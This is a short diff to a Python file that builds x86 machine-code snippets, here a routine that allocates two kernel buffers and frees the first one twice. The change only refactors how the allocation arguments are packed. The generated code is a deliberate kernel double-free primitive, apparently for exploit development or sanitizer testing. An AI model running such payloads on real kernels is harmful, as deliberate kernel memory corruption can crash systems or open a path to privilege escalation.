@@ -50,9 +50,8 @@ def wild_write(offset: int, value: int) -> bytes:
 
 def double_free(size: int, allocate: int, free: int) -> bytes:
     """p = allocate(size); q = allocate(size); free(p); free(q); free(p)."""
-    get = struct.pack("<sIsI", b"\xbf", size, b"\xbe", GFP_KERNEL) + call(
-        allocate
-    )  # mov edi, size; mov esi, GFP_KERNEL
+    arguments = struct.pack("<sIsI", b"\xbf", size, b"\xbe", GFP_KERNEL)  # mov edi, size; mov esi, GFP_KERNEL
+    get = arguments + call(allocate)
     put = call(free)
     return get + KEEP_FIRST + get + KEEP_SECOND + FIRST + put + SECOND + put + FIRST + put + DROP_SECOND
 
